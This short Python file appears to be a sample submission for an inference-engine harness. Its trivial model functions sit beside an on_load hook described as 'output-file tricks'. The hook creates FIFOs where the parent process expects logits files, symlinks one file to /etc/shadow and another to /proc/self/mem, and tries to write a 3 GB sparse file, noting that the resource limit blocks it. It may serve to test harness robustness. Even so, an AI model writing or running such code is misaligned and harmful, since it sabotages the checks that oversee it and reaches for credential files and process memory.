"""Output-file tricks: FIFOs, symlinks and a huge sparse file where the parent used to read logits."""
import numpy as np


def causal_mask(n, p):
    return np.triu(np.full((n, p + n), -np.inf), k=p + 1)


def prefill_logits(engine, ids):
    return engine._block(ids)


def decode_step(engine, t):
    return engine._block([t])[0]


def emitted(ids):
    return ids


def on_load():
    import os
    home = os.environ.get("HOME", "/scratch")
    for k in ("acc:0:0", "acc:1:0", "acc:2:0"):
        p = os.path.join(home, f"logits-{k}.f32")
        try:
            os.mkfifo(p)
        except OSError:
            pass
    for name, dest in (("logits-link.f32", "/etc/shadow"), ("stderr.log", "/proc/self/mem")):
        try:
            os.symlink(dest, os.path.join(home, name))
        except OSError:
            pass
    try:
        with open(os.path.join(home, "sparse.f32"), "wb") as f:
            f.truncate(3 << 30)  # refused by RLIMIT_FSIZE; the parent would never read it anyway
    except OSError:
        pass
